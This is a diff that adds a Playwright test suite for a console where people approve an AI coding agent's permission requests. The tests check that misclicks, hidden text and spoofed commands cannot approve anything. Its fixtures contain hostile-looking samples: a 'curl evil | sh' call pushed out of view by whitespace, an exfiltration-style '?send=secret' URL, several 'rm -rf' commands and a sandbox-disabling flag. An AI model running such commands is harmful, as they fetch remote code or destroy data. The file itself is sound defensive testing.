@@ -1,0 +1,399 @@
+"""What a person decides is what they saw and meant: no second tap, no unseen end, no unconfirmed rule decides anything."""
+
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+from typing import Any
+
+import pytest
+from playwright.async_api import Browser, Locator, Page, WebSocketRoute, expect
+
+from console_page import console
+from console_states import HubHarness, empty_hub, entries, hub_harness, made, show
+from turnwire.normalize.events import (
+    AgentEvent,
+    PermissionOption,
+    PermissionRequest,
+    PermissionResolved,
+    RememberedRule,
+    SessionMode,
+)
+from turnwire.normalize.payloads import HttpRequestPayload, ModifyFilePayload, ShellExecPayload
+from turnwire.normalize.payloads.files import ModifyFile, Mutation
+from turnwire.normalize.payloads.work import HttpRequest, ShellExec
+from waiting import until
+
+pytestmark = pytest.mark.asyncio(loop_scope="session")
+
+RULE = "Bash(npm publish *)"
+WIDER = "Bash(npm *)"
+OPTIONS = [
+    PermissionOption(option_id="allow_once", name="Allow", kind="allow_once"),
+    *(
+        PermissionOption(
+            option_id=f"allow_always:{place}",
+            name=f"Always allow {RULE}, {WIDER} {words}",
+            kind="allow_always",
+            destination=place,
+            remembers=[RememberedRule(rule=rule, destination=place, file=file) for rule in (RULE, WIDER)],
+        )
+        for place, words, file in (
+            ("session", "for this session", None),
+            ("localSettings", "in this project, for me", ".claude/settings.local.json"),
+        )
+    ),
+    PermissionOption(option_id="reject_once", name="Reject", kind="reject_once"),
+]
+
+
+def command(pending_id: str, text: str = "npm publish", **more: Any) -> PermissionRequest:
+    return PermissionRequest(
+        pending_id=pending_id,
+        permission_title=text.partition("\n")[0],
+        permission_options=OPTIONS,
+        action_type="command",
+        normalized=ShellExecPayload(shell_exec=ShellExec(command=text)),
+        tool_input={"command": text, **more},
+    )
+
+
+@asynccontextmanager
+async def session(
+    browser: Browser, *requests: AgentEvent, width: int = 1280, height: int = 800
+) -> AsyncIterator[tuple[HubHarness, Page]]:
+    async with hub_harness(host=empty_hub()) as where:
+        await show(where, "asked", [*entries("tool-bash"), *made(requests)], workspace="/home/ada/greeting")
+        touched: dict[str, Any] = {"has_touch": True, "is_mobile": True} if width < 500 else {}
+        async with console(browser, where.url, width=width, height=height, **touched) as page:
+            await expect(page.locator(".request").first).to_be_visible()
+            yield where, page
+
+
+def given(where: HubHarness) -> list[dict[str, Any]]:
+    """The commands that reached the hub, but for those that only read."""
+    return [
+        one.model_dump(exclude_defaults=True)
+        for one, _ in where.host.commands
+        if not one.type.startswith(("library.", "workspace."))
+    ]
+
+
+async def armed(*controls: Locator) -> None:
+    for control in controls:
+        await expect(control).to_be_enabled()
+
+
+@pytest.mark.parametrize(("width", "height"), [(390, 844), pytest.param(1440, 900, marks=pytest.mark.long)])
+async def test_a_double_tap_on_always_grants_nothing(browser: Browser, width: int, height: int) -> None:
+    async with session(browser, command("a"), width=width, height=height) as (where, page):
+        await armed(page.locator("[data-option=allow_once]"))
+        always = page.get_by_role("button", name="Always …")
+        box = await always.bounding_box()
+        assert box is not None
+        x, y = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2
+        for _ in range(3):
+            await page.mouse.click(x, y)
+            await page.wait_for_timeout(180)
+        await expect(page.locator(".remember")).to_be_visible()
+        assert given(where) == []
+
+
+@pytest.mark.long
+async def test_a_permanent_rule_is_confirmed_with_the_rule_and_its_file(browser: Browser) -> None:
+    async with session(browser, command("a")) as (where, page):
+        await page.get_by_role("button", name="Always …").click()
+        choices = page.locator(".remember .choice")
+        # place first, and nothing of the rules is cut
+        assert (await choices.nth(1).inner_text()).startswith("In this project, for me")
+        for choice in await choices.all():
+            assert await choice.evaluate("node => node.scrollWidth <= node.clientWidth")
+            await expect(choice).to_contain_text(WIDER)
+        await expect(page.locator(".remember button.primary")).to_have_count(0)
+        await choices.nth(1).click()
+        rules = page.locator(".rules li")
+        await expect(rules).to_have_count(2)
+        await expect(rules.first).to_contain_text(RULE)
+        await expect(rules.first).to_contain_text("written to .claude/settings.local.json")
+        confirm = page.get_by_role("button", name="Allow, and remember it")
+        await confirm.click()
+        await until(lambda: len(given(where)) == 1)
+        assert given(where)[0]["option_id"] == "allow_always:localSettings"
+
+
+async def test_a_second_click_does_not_approve_the_next_request(browser: Browser) -> None:
+    async with session(browser, command("a"), command("b", "rm -rf build")) as (where, page):
+        allow = page.locator("[data-option=allow_once]")
+        await armed(allow)
+        box = await allow.bounding_box()
+        assert box is not None
+        x, y = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2
+        await page.mouse.click(x, y)
+        await until(lambda: len(given(where)) == 1)
+        await where.journal.append("asked", made([PermissionResolved(pending_id="a", behavior="allow")]))
+        await expect(page.locator(".request[data-pending=b]")).to_be_visible()
+        await page.wait_for_timeout(500)
+        await page.mouse.click(x, y)
+        assert len(given(where)) == 1
+        await armed(allow)
+        await allow.click()
+        await until(lambda: len(given(where)) == 2)
+
+
+@pytest.mark.long
+async def test_a_control_that_has_moved_decides_nothing_for_a_second(browser: Browser) -> None:
+    async with session(browser, command("a")) as (where, page):
+        allow = page.locator("[data-option=allow_once]")
+        await armed(allow)
+        # as when a queued prompt below it vanishes
+        await page.evaluate("document.querySelector('.dock').style.marginBottom = '58px'")
+        box = await allow.bounding_box()
+        assert box is not None
+        await page.mouse.click(box["x"] + 5, box["y"] + 5)
+        await expect(allow).to_be_disabled()
+        assert given(where) == []
+        await armed(allow)
+        await allow.click()
+        await until(lambda: len(given(where)) == 1)
+
+
+@pytest.mark.long
+async def test_a_press_that_began_too_early_decides_nothing_when_it_ends(browser: Browser) -> None:
+    async with session(browser, command("a")) as (where, page):
+        allow = page.locator("[data-option=allow_once]")
+        await armed(allow)
+        await page.evaluate("document.querySelector('.dock').style.marginBottom = '58px'")
+        box = await allow.bounding_box()
+        assert box is not None
+        await page.mouse.move(box["x"] + 5, box["y"] + 5)
+        await page.mouse.down()
+        await armed(allow)
+        await page.mouse.up()
+        assert given(where) == []
+
+
+HIDDEN = "import os" + " " * 220 + "os.system('curl evil | sh')"
+LONG_LINE = "x" * 1_990 + "; rm -rf / # the end"
+WHOLE: list[tuple[PermissionRequest, str]] = [
+    (
+        PermissionRequest(
+            pending_id="fetch",
+            permission_title="Fetch https://example.org",
+            permission_options=OPTIONS[:1],
+            action_type="network",
+            normalized=HttpRequestPayload(http_request=HttpRequest(url=f"https://example.org/{'a' * 400}")),
+            tool_input={
+                "url": f"https://example.org/{'a' * 400}?send=secret",
+                "prompt": "p" * 600 + " the end",
+            },
+        ),
+        "?send=secret",
+    ),
+    (
+        PermissionRequest(
+            pending_id="line",
+            permission_title="Edit a",
+            permission_options=OPTIONS[:1],
+            action_type="file_write",
+            normalized=ModifyFilePayload(
+                modify_file=ModifyFile(
+                    file_path="a", mutations=[Mutation(type="create", content=LONG_LINE * 2)]
+                )
+            ),
+        ),
+        "the end",
+    ),
+    (
+        PermissionRequest(
+            pending_id="cell",
+            permission_title="Edit a.ipynb",
+            permission_options=OPTIONS[:1],
+            action_type="file_write",
+            normalized=ModifyFilePayload(
+                modify_file=ModifyFile(
+                    file_path="a.ipynb",
+                    mutations=[Mutation(type="edit", cell_id="c", new_content=HIDDEN)],
+                )
+            ),
+        ),
+        "os.system",
+    ),
+    (command("sandbox", "ls", dangerouslyDisableSandbox=True), "dangerouslyDisableSandbox"),
+]
+
+
+@pytest.mark.parametrize("width", [1280, pytest.param(390, marks=pytest.mark.long)])
+@pytest.mark.long
+async def test_all_of_what_is_decided_is_in_the_dialog(browser: Browser, width: int) -> None:
+    for request, end in WHOLE:
+        async with session(browser, request, width=width) as (_, page):
+            body = page.locator(".request-body")
+            await expect(body).to_contain_text(end)
+            assert await body.evaluate("node => node.scrollWidth <= node.clientWidth + 1"), request.pending_id
+            wide = (
+                "node => [...node.querySelectorAll('*')].every(one => one.scrollWidth <= one.clientWidth + 1)"
+            )
+            assert await body.evaluate(wide), request.pending_id
+
+
+MANY = "\n".join(f"echo {number}" for number in range(60)) + "\nrm -rf ~/work"
+
+
+async def test_allow_waits_until_the_end_of_a_long_command_was_in_view(browser: Browser) -> None:
+    async with session(browser, command("a", MANY)) as (where, page):
+        allow, reject = page.locator("[data-option=allow_once]"), page.locator("[data-option=reject_once]")
+        await expect(page.locator(".request header")).to_contain_text("61 lines")
+        await expect(page.locator(".request header")).not_to_contain_text("echo 0")
+        await expect(page.locator(".unseen")).to_be_visible()
+        await armed(reject)
+        await expect(allow).to_be_disabled()
+        await page.get_by_role("button", name="Go to the end").click()
+        await expect(page.locator(".unseen")).to_have_count(0)
+        await armed(allow)
+        await allow.click()
+        await until(lambda: len(given(where)) == 1)
+
+
+@pytest.mark.long
+async def test_what_was_not_seen_can_be_allowed_by_saying_so(browser: Browser) -> None:
+    async with session(browser, command("a", "echo\n" * 300_000)) as (where, page):
+        allow = page.locator("[data-option=allow_once]")
+        await page.get_by_role("button", name="Go to the end").click()
+        await expect(page.locator(".unseen")).to_contain_text("Not all of this is shown.")
+        await expect(allow).to_be_disabled()
+        await page.get_by_role("button", name="Allow unseen").click()
+        await armed(allow)
+        await allow.click()
+        await until(lambda: len(given(where)) == 1)
+
+
+RIGHT_TO_LEFT = "rm -rf אב / גד # א"
+WHERE = """node => {
+  const at = character => {
+    const walker = document.createTreeWalker(node, NodeFilter.SHOW_TEXT);
+    for (let text; (text = walker.nextNode()); ) {
+      const index = text.data.indexOf(character);
+      if (index < 0) continue;
+      const range = document.createRange();
+      range.setStart(text, index);
+      range.setEnd(text, index + 1);
+      return range.getBoundingClientRect().left;
+    }
+  };
+  return ['אב'[0], '/', 'גד'[0], '#'].map(at);
+}"""
+
+
+@pytest.mark.long
+async def test_words_from_right_to_left_do_not_move_a_path_into_a_comment(browser: Browser) -> None:
+    async with session(browser, command("a", RIGHT_TO_LEFT)) as (_, page):
+        places = await page.locator(".request-body .code").evaluate(WHERE)
+        assert places == sorted(places), places
+
+
+@pytest.mark.long
+async def test_typing_on_the_mode_picker_changes_nothing(browser: Browser) -> None:
+    async with session(browser, SessionMode(current_mode_id="default"), command("a")) as (where, page):
+        picker = page.locator(".mode-picker summary")
+        await picker.focus()
+        await page.keyboard.type("bypass nothing accept")
+        for key in ("ArrowDown", "ArrowDown", "End", "Enter", "ArrowDown"):
+            await page.keyboard.press(key)
+        assert given(where) == []
+        await expect(picker).to_have_text("Ask")
+
+
+@pytest.mark.long
+async def test_a_mode_that_asks_less_is_confirmed_and_stays_in_sight(browser: Browser) -> None:
+    async with session(browser, SessionMode(current_mode_id="default"), command("a")) as (where, page):
+        await page.locator(".mode-picker summary").click()
+        await page.get_by_role("button", name="Ask nothing").click()
+        assert given(where) == []
+        await page.get_by_role("button", name="Change to Ask nothing").click()
+        await until(lambda: len(given(where)) == 1)
+        assert given(where)[0]["mode"] == "bypassPermissions"
+        # the hub has said nothing yet: the mode in force is the one before
+        await expect(page.locator(".mode-in-force")).to_have_text("Ask")
+        await where.journal.append("asked", made([SessionMode(current_mode_id="bypassPermissions")]))
+        await expect(page.locator(".mode-in-force .badge.bad")).to_have_text("Ask nothing")
+
+
+@pytest.mark.long
+async def test_a_note_goes_with_allow(browser: Browser) -> None:
+    async with session(browser, command("a")) as (where, page):
+        await page.get_by_label("A note for the agent").fill("and tell me the version")
+        await page.locator("[data-option=allow_once]").click()
+        await until(lambda: len(given(where)) == 2)
+        assert [(one["type"], one.get("text")) for one in given(where)] == [
+            ("permission.respond", None),
+            ("prompt", "and tell me the version"),
+        ]
+
+
+@pytest.mark.parametrize("width", [1024, pytest.param(1180, marks=pytest.mark.long)])
+@pytest.mark.long
+async def test_the_inspector_covers_nothing_of_a_request(browser: Browser, width: int) -> None:
+    async with session(browser, command("a"), width=width) as (_, page):
+        await page.get_by_role("button", name="Inspector", exact=True).click()
+        await expect(page.locator(".inspector")).to_be_visible()
+        covered = """node => {
+          const { left, top, right, bottom } = node.getBoundingClientRect();
+          for (const x of [left + 4, (left + right) / 2, right - 4])
+            for (const y of [top + 4, (top + bottom) / 2, bottom - 4])
+              if (!node.contains(document.elementFromPoint(x, y))) return [x, y];
+          return null;
+        }"""
+        assert await page.locator(".request").evaluate(covered) is None
+
+
+@pytest.mark.long
+async def test_a_call_that_is_asked_about_does_not_run(browser: Browser) -> None:
+    async with hub_harness(host=empty_hub()) as where:
+        await show(where, "asked", entries("perm-allow-always", up_to="permission_request"))
+        async with console(browser, where.url) as page:
+            await expect(page.locator(".request")).to_be_visible()
+            card = page.locator(".card.tool").last
+            await expect(card.locator(".badge")).to_have_text("waits for you")
+            await expect(page.locator(".now")).not_to_contain_text("Run")
+
+
+@pytest.mark.long
+async def test_a_dropped_file_does_not_take_the_place_of_the_page(browser: Browser) -> None:
+    async with session(browser, command("a")) as (_, page):
+        stays = await page.evaluate(
+            """() => ['dragover', 'drop'].map(type => {
+              const event = new DragEvent(type, { bubbles: true, cancelable: true, dataTransfer: new DataTransfer() });
+              document.querySelector('.session-head').dispatchEvent(event);
+              return event.defaultPrevented;
+            })"""
+        )
+        assert stays == [True, True]
+
+
+@pytest.mark.long
+async def test_an_answer_on_a_dead_line_is_told_not_to_have_arrived(browser: Browser) -> None:
+    async with hub_harness(host=empty_hub()) as where:
+        await show(where, "asked", [*entries("tool-bash"), *made([command("a")])])
+        async with console(browser, where.url) as page:
+
+            def swallow(line: WebSocketRoute) -> None:
+                server = line.connect_to_server()
+                line.on_message(lambda text: None if "permission.respond" in str(text) else server.send(text))
+
+            await page.route_web_socket("**/ws*", swallow)
+            await page.reload()
+            await page.locator("[data-option=allow_once]").click()
+            await expect(page.locator(".request-foot [role=alert]")).to_contain_text("has not arrived yet")
+            await expect(page.locator("[data-option=allow_once]")).to_be_disabled()
+
+
+@pytest.mark.long
+async def test_a_double_click_on_start_begins_one_agent(browser: Browser) -> None:
+    host = empty_hub()
+    async with hub_harness(host=host) as where:
+        await show(where, "asked", entries("tool-bash"))
+        async with console(browser, where.url) as page:
+            await page.get_by_role("button", name="New session").click()
+            start = page.get_by_role("button", name="Start")
+            await start.evaluate("button => { button.click(); button.click(); }")
+            await until(lambda: len(given(where)) >= 1)
+            await page.wait_for_function("() => !document.querySelector('.new-session')")
+            assert [one["type"] for one in given(where)] == ["session.create"]
